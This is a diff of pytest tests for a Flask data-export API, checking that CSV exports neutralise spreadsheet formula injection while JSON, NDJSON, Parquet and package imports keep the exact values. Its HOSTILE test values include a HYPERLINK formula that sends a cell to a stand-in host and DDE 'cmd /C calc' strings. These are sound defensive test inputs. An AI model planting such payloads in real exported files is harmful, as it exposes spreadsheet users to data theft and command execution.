@@ -9,7 +9,8 @@ import frictionless
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
-from helpers import edit, seed
+from flask_migrate import upgrade
+from helpers import edit, make_app, seed
 
 from api.extensions import db
 from api.models import DatasetVersion, State
@@ -324,3 +325,65 @@ def test_exporting_an_unknown_version_fails_cleanly(app, tmp_path):
     with app.app_context():
         result = app.test_cli_runner().invoke(args=["export", str(tmp_path), "--dataset-version", "1999.01.01-dead"])
     assert result.exit_code == 1 and "No dataset version '1999.01.01-dead'" in result.output
+
+
+HOSTILE = {"summary": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "quote": "+cmd|' /C calc'!A0",
+           "restriction": "-2+3", "announced_by": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "\t=1+1"}
+
+
+def test_csv_cells_cannot_become_formulas_and_other_formats_keep_exact_values(empty_app, database_url, tmp_path):
+    """A curator's hostile values, written through the API: every CSV (also inside the data
+    package) starts them with an apostrophe; JSON, NDJSON and Parquet keep them exactly; numbers and
+    dates are untouched; a package import gives back the exact values."""
+    from helpers import US_POSITION, bearer, seed_small
+    seed_small(empty_app)
+    client = empty_app.test_client()
+    position = US_POSITION | HOSTILE
+    assert client.post("/api/v1/policy-positions", json=position, headers=bearer()).status_code == 201
+
+    def row_of(data: bytes) -> dict:
+        return next(r for r in csv.DictReader(io.StringIO(data.decode(), newline="")) if r["id"] == position["id"])
+
+    row = row_of(client.get("/api/v1/exports/policy_positions.csv").data)
+    assert {name: row[name] for name in HOSTILE} == {name: "'" + value for name, value in HOSTILE.items()}
+    assert row["effective"] == "2026-03-01" and row["iso2"] == "US" and row["iso3"] == "USA" and row["position"] == "prohibited"
+    package = zipfile.ZipFile(io.BytesIO(client.get("/api/v1/exports/datapackage.zip").data))
+    assert row_of(package.read("data/policy_positions.csv")) == row
+    for name in package.namelist():  # no cell of any CSV starts a formula
+        if name.endswith(".csv"):
+            cells = [cell for line in csv.reader(io.StringIO(package.read(name).decode(), newline=""))
+                     for cell in line]
+            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], name
+    obligations = list(csv.DictReader(io.StringIO(client.get("/api/v1/exports/obligations.csv").data.decode())))
+    assert obligations == [] or all(r["article"] in ("4", "5") for r in obligations)
+
+    def exact(items):
+        item = next(i for i in items if i["id"] == position["id"])
+        return {name: item[name] for name in HOSTILE}
+    assert exact(client.get("/api/v1/exports/policy_positions.json").json) == HOSTILE
+    ndjson = client.get("/api/v1/exports/policy_positions.ndjson").data.decode().splitlines()
+    assert exact([json.loads(line) for line in ndjson]) == HOSTILE
+    assert exact(pq.read_table(io.BytesIO(client.get("/api/v1/exports/policy_positions.parquet").data))
+                 .to_pylist()) == HOSTILE
+    assert exact(client.get("/api/v1/countries/US/policies?dimension=use").json["items"]) == HOSTILE
+
+    exported = tmp_path / "package.zip"
+    exported.write_bytes(client.get("/api/v1/exports/datapackage.zip").data)
+    imported = make_app(database_url())
+    with imported.app_context():
+        upgrade()
+        result = imported.test_cli_runner().invoke(args=["import-package", str(exported)])
+        assert result.exit_code == 0, result.output
+        items = imported.test_client().get("/api/v1/exports/policy_positions.json").json
+        db.session.remove()
+        db.engine.dispose()
+    assert exact(items) == HOSTILE
+
+
+def test_neutralised_cells_read_back_exactly():
+    from api.read.formats import _csv_cell, neutralise, unneutralise
+    for text in ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'", "''", "'=1", "''-1", "'abc", "abc", "", "a=b", "-"]:
+        assert unneutralise(neutralise(text)) == text
+        assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert neutralise("'limited basis'") == "'limited basis'" and neutralise("'=1") == "''=1"
+    assert (_csv_cell(-5), _csv_cell("-5"), _csv_cell(["-a", "b"])) == ("-5", "'-5", "'-a;b")
